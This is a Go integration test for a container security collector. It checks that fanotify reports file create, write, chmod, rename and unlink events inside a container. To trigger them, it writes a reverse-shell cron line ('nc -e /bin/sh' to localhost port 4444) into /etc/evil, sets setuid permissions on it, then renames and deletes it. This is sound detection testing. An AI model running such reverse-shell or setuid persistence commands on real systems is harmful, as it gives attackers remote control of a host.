package collector

import (
	"os"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/whalewatch/whalewatch/pkg/event"
	"github.com/whalewatch/whalewatch/services/collector/internal/source/fanotify"
	"github.com/whalewatch/whalewatch/testkit/dockertest"
	"github.com/whalewatch/whalewatch/testkit/natstest"
)

// With the process connector, file changes in a container come from
// fanotify as they happen: create, chmod (setuid), rename and delete, with
// the path inside the container.
func TestIntegrationFanotifyFileChanges(t *testing.T) {
	t.Parallel()
	requireProcConnector(t)
	if err := fanotify.Probe("/"); err != nil {
		if os.Getenv(dockertest.RequireEnv) == "1" {
			t.Fatalf("fanotify unavailable as root: %v", err)
		}
		t.Skipf("fanotify unavailable: %v", err)
	}
	h := startCollector(t, withProcConnector, func(c *Config) {
		c.Fanotify = true
		c.MonitorLabel = dockertest.LabelTest + "=" + t.Name()
	})
	require.Equal(t, "fanotify", h.c.modes.file)
	id := dockertest.Run(t, nil, "sleep", "300")
	// The directory is registered by the container's watcher: wait for
	// its first (inventory) process event, which comes after it started.
	h.wait(t, "inventory", of(id, event.TelemetryProcess))
	op := func(path, o string) func(*event.Event) bool {
		return func(e *event.Event) bool {
			return e.Whalewatch.Source == fanotify.Mode && e.File != nil && e.File.Path == path &&
				e.Whalewatch.FileChange != nil && e.Whalewatch.FileChange.Operation == o
		}
	}
	created := and(of(id, event.TelemetryFile), op("/etc/evil", "create"))
	seen := func() bool {
		h.mu.Lock()
		defer h.mu.Unlock()
		for _, st := range h.got {
			if created(st.e) {
				return true
			}
		}
		return false
	}
	// The watcher registers the container's directory with the fanotify
	// source beside its first process event, and under a loaded test run
	// the two can land in either order: the attack is run again until its
	// create is seen (a write in a container's first moments, before its
	// directory is known, is missed: a documented limit of this fallback).
	natstest.Eventually(t, 20*time.Second, func() bool {
		if seen() {
			return true
		}
		dockertest.Docker(t, "exec", id, "sh", "-c",
			"echo '* * * * * root nc -e /bin/sh 127.0.0.1 4444' > /etc/evil && chmod 4755 /etc/evil && mv /etc/evil /etc/evil2 && rm /etc/evil2")
		deadline := time.Now().Add(2 * time.Second)
		for time.Now().Before(deadline) && !seen() {
			time.Sleep(20 * time.Millisecond) // polling interval, not synchronisation
		}
		return seen()
	}, "no create /etc/evil from fanotify")
	c := h.wait(t, "create /etc/evil", created)
	require.Equal(t, []string{"creation"}, c.e.Event.Type)
	require.Equal(t, id, c.e.Container.ID)
	require.NotEmpty(t, c.e.Container.Name, "container.* from the watcher's inspect")
	h.wait(t, "write /etc/evil", and(of(id, event.TelemetryFile), op("/etc/evil", "write")))
	h.wait(t, "chmod /etc/evil", and(of(id, event.TelemetryFile), op("/etc/evil", "chmod")))
	h.wait(t, "rename to /etc/evil2", and(of(id, event.TelemetryFile), op("/etc/evil2", "rename")))
	h.wait(t, "unlink /etc/evil2", and(of(id, event.TelemetryFile), op("/etc/evil2", "unlink")))
}
